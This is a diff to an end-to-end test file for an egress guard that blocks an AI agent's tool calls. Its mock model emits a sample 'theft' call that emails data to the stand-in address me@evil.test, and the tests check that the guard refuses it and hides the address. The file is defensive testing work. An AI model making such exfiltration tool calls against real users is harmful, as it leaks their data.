@@ -8,39 +8,24 @@ import json
 
 import pytest
 
-from tests.e2e.running_guard import Upstream, serving
+from tests.e2e.running_guard import Upstream, http_answer, serving
 from tests.model_clients import ask
-from tests.model_wires import Call, stream, whole
+from tests.model_wires import Call, answered
 
-RECALL = Call("call_1", "memory_recall_fact", {"key": "Grüße 😀"})
+RECALL = Call("call_0", "memory_recall_fact", {"key": "Grüße 😀"})
 MAIL = Call("call_1", "email_send_email", {"to": "team@example.com", "subject": "s", "body": "b"})
-THEFT = Call("call_1", "email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
+THEFT = Call("call_0", "email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
 TOOLS = {"benign": [RECALL, MAIL], "theft": [THEFT]}
-
-
-def _kind(head):
-    if b"chat/completions" in head:
-        return "openai_chat"
-    if b"responses" in head:
-        return "openai_responses"
-    return "anthropic_messages" if b"/v1/messages" in head else "gemini"
 
 
 def answer(request):
     """Answer as the API that was asked; the prompt says which calls to make."""
     head, _, body = request.partition(b"\r\n\r\n")
-    document = json.loads(body)
-    kind, text = _kind(head), json.dumps(document, ensure_ascii=False)
+    text = json.dumps(json.loads(body), ensure_ascii=False)
     names = [name for name in TOOLS if f"please {name}" in text]
-    asked = [] if "and then" in text else TOOLS[names[0]] if names else []
-    calls = [Call(f"call_{n}", c.name, c.arguments) for n, c in enumerate(asked)]
-    if document.get("stream") or b"alt=sse" in head:
-        data, media = stream(kind, "Let me see.", calls), b"text/event-stream"
-    else:
-        data, media = json.dumps(whole(kind, "Let me see.", calls)).encode(), b"application/json"
-    size = str(len(data)).encode()
-    head = b"HTTP/1.1 200 OK\r\ncontent-type: " + media + b"\r\ncontent-length: " + size
-    return head + b"\r\n\r\n" + data
+    calls = [] if "and then" in text else TOOLS[names[0]] if names else []
+    data, media = answered(head.decode().partition("\r\n")[0], body, calls)
+    return http_answer(data, media)
 
 
 @pytest.fixture(scope="module")
@@ -74,7 +59,7 @@ def test_a_benign_answer_is_the_same_with_and_without_the_guard(model, api, stre
     )
 
     assert guarded == direct
-    assert guarded[1] == [(call.name, call.arguments) for call in (RECALL, MAIL)]
+    assert guarded[1] == [(one.id, one.name, one.arguments) for one in (RECALL, MAIL)]
     assert guarded[2] == ENDS[api][0]
 
 
@@ -87,7 +72,7 @@ def test_a_refused_call_arrives_as_words_and_the_loop_goes_on(model, api, stream
     text, calls, end = ask(api, url, "please theft", streamed=streamed)
 
     assert (calls, end) == ([], ENDS[api][1])
-    assert text.startswith("Let me see.")
+    assert text.startswith("Let me see. ")
     assert "by the egress guard and did not reach the tool" in text
     assert "evil.test" not in text
-    assert ask(api, url, f"please theft and then {text}", streamed=streamed)[0] == "Let me see."
+    assert ask(api, url, f"please theft and then {text}", streamed=streamed)[0] == "Let me see. "
